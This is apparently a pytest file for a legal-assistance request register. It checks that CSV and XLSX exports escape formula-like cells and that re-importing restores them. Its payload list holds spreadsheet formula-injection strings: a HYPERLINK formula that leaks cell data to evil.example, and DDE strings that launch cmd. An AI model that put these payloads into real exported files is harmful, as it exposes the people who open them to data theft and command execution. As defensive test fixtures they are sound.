"""Register exports neutralise text that a spreadsheet would run as a formula, and import undoes
exactly that escape: an exported register imports back unchanged."""

import csv

import pytest
from openpyxl import load_workbook

from rogatory.core.spreadsheet import csv_text, csv_text_unescape, xlsx_text_needed
from rogatory.intake.export import register_export
from rogatory.intake.services import register_import
from rogatory.register import services
from rogatory.register.models import Request
from tests.register.factories import make_request

pytestmark = pytest.mark.django_db

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
TEXT_FIELDS = ("counterpart_authority", "offence_description", "notes")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''@x",
    "'plain apostrophe",
    "=",
    "#N/A",
    "plain text - with + signs = fine @ middle",
]


# The importer trims every cell, so text with leading white space cannot come back unchanged.
ROUND_TRIP = [payload for payload in PAYLOADS if payload == payload.strip()]


def _fields(payload: str) -> dict[str, str]:
    return {field: payload for field in TEXT_FIELDS}


def _requests(payloads: list[str]) -> None:
    for number, payload in enumerate(payloads):
        request = make_request(reference=f"{payload.strip()}|{number}")
        services.request_update(actor=None, request=request, **_fields(payload))


def _stored() -> dict[str, tuple[str, ...]]:
    return {
        request.reference: tuple(getattr(request, field) for field in TEXT_FIELDS)
        for request in Request.objects.all()
    }


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_csv_text_prefixes_every_trigger_and_unescape_undoes_it(trigger):
    text = f"{trigger}1+1"

    escaped = csv_text(text)

    assert escaped == f"'{text}"
    assert csv_text_unescape(escaped) == text


@pytest.mark.parametrize("value", [-5, 3.5, 0, None])
def test_csv_text_leaves_numbers_alone(value):
    assert csv_text(value) == value


@pytest.mark.parametrize("text", PAYLOADS)
def test_unescape_is_the_exact_inverse_of_the_escape(text):
    assert csv_text_unescape(csv_text(text)) == text


def test_a_csv_export_starts_every_formula_like_text_cell_with_an_apostrophe(tmp_path):
    _requests(PAYLOADS)
    path = tmp_path / "register.csv"

    register_export(path=path)

    with path.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for column in ("reference", *TEXT_FIELDS):
            cell = row[column]
            assert not cell.startswith(tuple(TRIGGERS)), (column, cell)
            if cell.lstrip("'").startswith(tuple(TRIGGERS)):
                assert cell.startswith("'")
        assert row["persons"] == ""


def test_an_xlsx_export_holds_no_formula_and_keeps_the_text_as_typed(tmp_path):
    _requests(PAYLOADS)
    path = tmp_path / "register.xlsx"

    register_export(path=path)

    sheet = load_workbook(path).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    texts = set()
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            assert cell.data_type != "e", (cell.coordinate, cell.value)
        texts.add(row[header.index("notes")].value)
    # openpyxl writes through lxml (a dependency of the letter templates), which keeps a
    # carriage return as typed; the cell is still text, not a formula.
    assert texts == set(PAYLOADS)


@pytest.mark.parametrize("name", ["register.csv", "register.xlsx"])
def test_an_exported_register_imports_back_unchanged(tmp_path, name):
    _requests(ROUND_TRIP)
    expected = _stored()
    path = tmp_path / name
    register_export(path=path)
    Request.objects.all().delete()

    result = register_import(actor=None, path=path)

    assert result.created == len(ROUND_TRIP)
    assert _stored() == expected
    assert register_import(actor=None, path=path).unchanged == len(ROUND_TRIP)


def test_a_hand_made_csv_keeps_an_apostrophe_that_escapes_nothing(tmp_path):
    path = tmp_path / "register.csv"
    path.write_text(
        "reference,direction,kind,country,sent_on,status,notes\n"
        "'R-1,outgoing,mla,CH,2023-03-01,pending,'=1+1\n",
        encoding="utf-8",
    )

    register_import(actor=None, path=path)

    request = Request.objects.get()
    assert (request.reference, request.notes) == ("'R-1", "=1+1")


def test_xlsx_text_needed_only_for_text():
    assert xlsx_text_needed("=1")
    assert xlsx_text_needed("#DIV/0!")
    assert not xlsx_text_needed(-5)
    assert not xlsx_text_needed("plain")
